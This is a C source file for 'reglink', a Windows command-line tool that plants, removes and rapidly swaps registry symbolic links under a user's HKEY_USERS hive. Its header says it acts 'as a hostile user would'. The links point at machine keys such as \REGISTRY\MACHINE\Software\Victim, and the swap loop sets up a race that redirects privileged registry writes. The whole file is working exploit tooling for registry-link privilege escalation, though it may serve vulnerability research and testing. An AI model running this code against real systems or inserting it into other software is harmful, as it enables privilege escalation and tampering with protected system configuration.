/* reglink.c - plant registry links, as a hostile user would in his own hive.
 *
 *   reglink plant SID PATH TARGET   HKEY_USERS\SID\PATH becomes a link to TARGET, a native name
 *                                   such as \REGISTRY\MACHINE\Software\Victim; a key without
 *                                   keys below it makes way, as often as somebody makes it again
 *   reglink remove SID PATH         removes the link itself
 *   reglink swap SID PATH TARGET MS for so long the key is by turns a plain one and such a link
 */
#include <windows.h>

#include <shellapi.h>
#include <stdbool.h>
#include <stdio.h>
#include <wchar.h>

enum { KEY_CHARS = 512, TRIES = 1000 };

/* Removes by its handle alone: RegDeleteKey follows the link. */
LONG NTAPI NtDeleteKey(HANDLE key);

static LSTATUS plant(const wchar_t *name, const wchar_t *target)
{
    HKEY key = NULL;

    LSTATUS failure = RegCreateKeyExW(HKEY_USERS, name, 0, NULL, REG_OPTION_CREATE_LINK,
                                      KEY_SET_VALUE | KEY_CREATE_LINK, NULL, &key, NULL);
    if (failure == ERROR_SUCCESS) {
        /* Without the final NUL: the kernel wants the bare name. */
        failure = RegSetValueExW(key, L"SymbolicLinkValue", 0, REG_LINK, (const BYTE *)target,
                                 (DWORD)(wcslen(target) * sizeof(wchar_t)));
        RegCloseKey(key);
    }
    return failure;
}

static LSTATUS unplant(const wchar_t *name)
{
    HKEY key = NULL;

    LSTATUS failure = RegOpenKeyExW(HKEY_USERS, name, REG_OPTION_OPEN_LINK, DELETE, &key);
    if (failure == ERROR_SUCCESS) {
        failure = NtDeleteKey(key) < 0 ? ERROR_ACCESS_DENIED : ERROR_SUCCESS;
        RegCloseKey(key);
    }
    return failure;
}

static LSTATUS plant_over(const wchar_t *name, const wchar_t *target)
{
    LSTATUS failure = ERROR_ALREADY_EXISTS;
    for (int i = 0; i < TRIES && failure == ERROR_ALREADY_EXISTS; i++) {
        (void)unplant(name);
        failure = plant(name, target);
    }
    return failure;
}

static LSTATUS swap(const wchar_t *name, const wchar_t *target, unsigned long ms)
{
    ULONGLONG end_ms = GetTickCount64() + ms;
    unsigned long rounds = 0;
    LSTATUS failure = ERROR_SUCCESS;

    while (failure == ERROR_SUCCESS && GetTickCount64() < end_ms) {
        HKEY key = NULL;
        (void)unplant(name);
        failure = RegCreateKeyExW(HKEY_USERS, name, 0, NULL, 0, KEY_SET_VALUE, NULL, &key, NULL);
        RegCloseKey(key);
        failure = failure == ERROR_SUCCESS ? plant_over(name, target) : failure;
        rounds++;
    }
    printf("rounds=%lu\n", rounds);
    return failure;
}

int main(void)
{
    wchar_t name[KEY_CHARS];
    int argc = 0;
    wchar_t **argv = CommandLineToArgvW(GetCommandLineW(), &argc);
    if (argv == NULL) {
        return 1;
    }

    bool planting = argc == 5 && wcscmp(argv[1], L"plant") == 0;
    bool removing = argc == 4 && wcscmp(argv[1], L"remove") == 0;
    bool swapping = argc == 6 && wcscmp(argv[1], L"swap") == 0;
    if ((!planting && !removing && !swapping) ||
        swprintf(name, KEY_CHARS, L"%ls\\%ls", argv[2], argv[3]) < 0) {
        fputs("reglink: say plant SID PATH TARGET, remove SID PATH or swap SID PATH TARGET MS\n",
              stderr);
        return 2;
    }
    LSTATUS failure = planting   ? plant_over(name, argv[4])
                      : removing ? unplant(name)
                                 : swap(name, argv[4], wcstoul(argv[5], NULL, 10));
    if (failure != ERROR_SUCCESS) {
        fprintf(stderr, "reglink: %ls: error %ld\n", name, (long)failure);
        return 1;
    }
    return 0;
}
